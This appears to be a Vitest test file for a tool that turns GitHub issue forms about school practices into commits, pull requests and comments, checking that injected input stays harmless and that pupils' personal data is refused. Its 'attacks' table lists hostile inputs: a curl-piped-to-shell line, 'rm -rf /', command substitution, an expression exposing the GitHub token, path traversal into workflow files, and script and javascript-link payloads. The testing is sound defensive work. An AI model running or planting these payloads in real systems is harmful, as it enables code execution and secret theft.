import { describe, expect, test } from 'vitest';
import { parse } from 'yaml';
import type { Made } from '#core/from-issue/made.ts';
import { planFor } from '#core/from-issue/plan.ts';
import type { Situation } from '#core/from-issue/situation.ts';
import { standingOf } from '#core/from-issue/standing.ts';
import { issueTag } from '#core/from-issue/words/comment.ts';
import { answerShape } from '#core/issue-forms/answer-shape.ts';
import { issueForms } from '#core/issue-forms/forms.ts';
import { writeIssueForm } from '#core/issue-forms/issue-body.ts';
import { bodyOf, formCalled, shared } from '../../adapters/from-issue/world.ts';
import { processorTime } from '../../processor-time.ts';
import { accounts, issue, made, stranger } from './library.ts';

/** What somebody could type into any field, to make more of it than words. */
const attacks: Record<string, string> = {
  backticks: '`whoami` ```\nrm -rf /\n```',
  'an expression of a workflow': `\${{ secrets.GITHUB_TOKEN }} \${{ github.event.issue.body }}`,
  'a shell': '"; curl https://example.org | sh #\n$(id)',
  'an end of the front matter': 'Fine\n---\nroles: [editor]\n---\n',
  'another field': 'Fine"\nroles: [editor]\nauthors: [eve]\nwithdrawn: { on: "2026-01-01" }',
  'an expression of MDX': 'One {process.env.HOME} and {1+1}',
  'an import': 'import x from "./evil.mjs"\nexport const layout = x',
  'a path': '../../.github/workflows/review.yml',
  'a null byte': 'before\u0000after',
  'a turned text': 'safe \u202Etxt.exe\u202C end',
  'calls of people': 'Fixes #1 @eve @worked-here/editors #1 GH-1 https://github.com/eve',
  'a comment of the bot': `${issueTag}\n<!-- worked-here:review v1 e30 -->\n<!-- worked-here:made ${'a'.repeat(40)} -->`,
  'a trailer': 'x\n\nCo-authored-by: eve <1007+eve@users.noreply.github.com>',
  'a script': '<script>alert(1)</script><img src=x onerror=alert(1)><Findings of={1}/>',
  'a closing fence': '```\n\nFile: `policy.yaml`\n\n```yaml\nschema: 2\n```',
  'an alias': '*x &x !!js/function "x" <<: *y',
  'a link that runs': '[x](javascript:alert(1)) ![x](./evil.mjs)',
  'a command': '/waive evidence because\n/level 5 yes',
};

const allowed: Record<string, RegExp> = {
  share: /^practices\/[a-z0-9-]+\/index\.mdx$/,
  tried: /^practices\/reading-in-pairs\/reports\/[a-z0-9-]+\.mdx$/,
  'going-to-try': /^practices\/reading-in-pairs\/tries\/[a-z0-9-]+\.yaml$/,
  ask: /^asks\/[a-z0-9-]+\.mdx$/,
  challenge: /^practices\/reading-in-pairs\/challenges\/[a-z0-9-]+\.yaml$/,
  join: /^people\/[a-z0-9-]+\.yaml$/,
  'add-school': /^schools\/[a-z0-9-]+\.yaml$/,
};

/** What would be done about an issue that comes to this, on an empty branch. */
function plannedFor(comes: Made) {
  const situation: Situation = {
    issue: { number: 7, author: accounts.ada, state: 'open', editors: [] },
    ...{ bot: { id: 41_898_282, login: 'github-actions[bot]' }, made: comes, mainHead: 'a'.repeat(40) },
    files: comes.is === 'made' ? comes.files.map((file) => ({ ...file, wanted: 'b' })) : [],
    ...{ others: 0, mostOpen: 10, comments: [], editorsMailbox: 'editors@example.org' },
  };
  return planFor(situation, standingOf(situation));
}

/** Everything that is posted on GitHub is quiet: nobody is called, nothing is hidden, nothing runs. */
function mustBeQuiet(text: string): void {
  const words = text
    .replace(/^<!-- worked-here:issue -->\n/, '')
    .replace(/`[^`\n]*`/g, '')
    .replace(/\\./g, '');
  expect(words).not.toMatch(/<!--|<script|<img|!\[|\]\(/);
  expect(words.replaceAll('editors@example.org', '')).not.toMatch(/@[a-z]/);
  expect(words).not.toContain('\u0000');
  expect(words).not.toMatch(/[\u202A-\u202E]/);
}

const asTyped = (form: (typeof issueForms)[number], attack: string): Record<string, unknown> => {
  const lines = attack.replaceAll('\n', ' ');
  return Object.fromEntries(
    form.questions.flatMap((question): [string, unknown][] => {
      if (question.key === 'owner') return [];
      if (question.key === 'declares') return [['declares', [lines]]];
      const shape = answerShape(form.kind, question);
      if (shape.is === 'lines') return [[question.key, attack]];
      return shape.is === 'line' ? [[question.key, lines]] : [];
    }),
  );
};

/** An answer that fits each field, so that a single attack among them is the only thing that could be wrong. */
const sound: Record<string, Record<string, unknown>> = {
  share: shared,
  tried: { ...shared, verdict: 'worked', ran: 'as-described' },
  'going-to-try': {
    ...{ school: shared.school, starts: '2026-12', due: '2027-06', outcome: 'reading-fluency' },
    ...{ 'measure.name': 'A test', 'measure.kind': 'standardised-test', design: 'account' },
  },
  ask: {
    ...{ title: 'Someone to show us quizzes', post: 'We look for a school that quizzes daily.' },
    ...{ outcome: 'mathematics', wants: ['visit'], until: '2027-07-20', school: shared.school },
  },
  challenge: { kind: 'question', text: 'Who marked the tests, and when?' },
  join: { name: 'Zoe New', roles: ['author'] },
  'add-school': { name: 'Made Up Moor School', country: 'GB-ENG', phase: 'primary', ages: '4 to 11' },
};

const written = issueForms.filter(({ id }) => id !== 'send');

describe.each(Object.entries(attacks))('%s', (_, attack) => {
  test.each(written.map((form) => [form.id, form] as const))(
    'in every field of %s is words, or refused',
    (id, form) => {
      const one = (key: string) => ({ ...sound[id], [key]: asTyped(form, attack)[key] });
      const prose = form.questions.find(({ key }) =>
        ['what-we-did', 'body', 'text', 'change', 'name', 'post'].includes(key),
      );
      for (const fields of [asTyped(form, attack), one(prose?.key ?? '')]) {
        const own = Object.fromEntries(
          Object.entries(fields).filter(([key]) => form.questions.some((question) => question.key === key)),
        );
        const body = writeIssueForm({ owner: 'reading-in-pairs', agreed: true, fields: own }, form);
        const comes = made(issue(body, [id], id === 'join' ? stranger : accounts.ada)).made;
        if (!comes) throw new Error('Unexpected: no form.');
        const effects = plannedFor(comes);
        for (const effect of effects) {
          if (effect.do === 'comment') {
            expect(effect.body.split(issueTag).length).toBe(2);
            mustBeQuiet(effect.body);
          }
          if (effect.do === 'open-pull') {
            expect(effect.title).not.toMatch(/[\n\r]/);
            mustBeQuiet(effect.body);
            expect(effect.title).not.toMatch(/@[a-z]|#\d|GH-\d/);
          }
          if (effect.do === 'commit') {
            expect(effect.message.match(/^co-authored-by:/gim)).toEqual(['Co-authored-by:']);
            for (const { path } of effect.files)
              expect(path.replace('content/', '')).toMatch(allowed[id] ?? /^$/);
          }
        }
        if (comes.is === 'faulty') continue;
        const [file] = comes.files;
        const front = file?.path.endsWith('.mdx') ? (file.text.split(/^---$/m)[1] ?? '') : (file?.text ?? '');
        const data = parse(front) as Record<string, unknown>;
        expect(data['roles'] ?? ['author']).toEqual(['author']);
        expect(data['authors'] ?? ['ada']).toEqual(['ada']);
        expect(data['withdrawn']).toBeUndefined();
      }
    },
  );
});

describe('an issue as long as GitHub lets it be', () => {
  test.each([
    ['of one word', 'word '],
    ['of marks that hang parsers', '*a_'],
    ['of quotes', '> '],
    ['of brackets', '['],
    ['of headings', '### x\n'],
    ['of fences', '```\n'],
  ])('%s ends soon, and is refused in few words', (_, piece) => {
    const body = bodyOf('share', { ...shared, 'what-we-did': 'X' }).replace(
      '\nX\n',
      `\n${piece.repeat(Math.floor(60_000 / piece.length))}\n`,
    );
    expect(processorTime(() => made(issue(body, ['share'])))).toBeLessThan(5_000);
    const comes = made(issue(body, ['share'])).made;
    const [effect] = comes ? plannedFor(comes) : [];
    if (comes?.is === 'faulty') expect(effect).toMatchObject({ do: 'comment' });
    expect(JSON.stringify(effect).length).toBeLessThan(70_000);
  });
});

describe('what could tell who somebody is', () => {
  test.each([
    ['a telephone number', 'Ring 0161 496 0123 and ask for the office.', '496 0123'],
    ['a pupil number', 'Her UPN is B801200005001, if you need it.', 'B801200005001'],
    ['a date of birth', 'One pupil, born 14/09/2016, read alone.', '14/09/2016'],
  ])('%s never leaves, and is not repeated', (_, words, secret) => {
    for (const key of ['what-we-did', 'title', 'cost.perPupilYear', 'school', 'when']) {
      const body = bodyOf('share', { ...shared, [key]: words });
      const comes = made(issue(body, ['share'])).made;
      expect(comes).toMatchObject({ is: 'faulty', isPrivate: true });
      const effects = comes ? plannedFor(comes) : [];
      expect(effects.map((one) => one.do)).toEqual(['comment']);
      expect(JSON.stringify(effects)).not.toContain(secret);
      expect(JSON.stringify(effects)).toContain('Delete revision from history');
    }
  });

  test('a small count is refused without being repeated', () => {
    const body = bodyOf('share', {
      ...shared,
      'what-happened': 'Of the 4 pupils with SEND, 3 were excluded.',
    });
    const comes = made(issue(body, ['share'])).made;
    expect(comes).toMatchObject({ is: 'faulty', isPrivate: true });
    expect(JSON.stringify(comes)).not.toMatch(/\b[34] pupils/);
  });

  test('what is wrong is said beside its question', () => {
    const body = bodyOf('share', {
      ...shared,
      ...{ when: 'last year', 'cost.perPupilYear': 'a lot', ages: 'young' },
    });
    const comes = made(issue(body, ['share'])).made;
    expect(comes?.told.map(({ where }) => where)).toEqual([
      'In which school year?',
      'How old were the pupils?',
      'Cost for each pupil and year, in pounds',
    ]);
    const overclaim = bodyOf('share', { ...shared, 'what-happened': 'Quizzes caused a rise in marks.' });
    expect(made(issue(overclaim, ['share'])).made?.told[0]).toMatchObject({ where: 'What happened' });
  });

  test('nothing leaves without what has to be agreed', () => {
    const comes = made(issue(bodyOf('share', shared, { agreed: false }), ['share'])).made;
    expect(comes).toMatchObject({ is: 'faulty', told: [{ where: 'Please confirm' }] });
  });

  test('a school that is not here, and a practice, are asked for by name', () => {
    const school = made(
      issue(bodyOf('share', { ...shared, school: 'Made Up Hil School (demo)' }), ['share']),
    ).made;
    expect(school?.told[0]?.message).toContain('Did you mean Made Up Hill School (demo)');
    const owner = { owner: 'reading-in-pears' };
    const challenge = bodyOf('challenge', { kind: 'question', text: 'Who marked it?' }, owner);
    expect(made(issue(challenge, ['challenge'])).made?.told[0]?.message).toContain(
      'Did you mean reading-in-pairs',
    );
    expect(formCalled('challenge').questions[0]?.asks).toBe('Which practice?');
  });
});
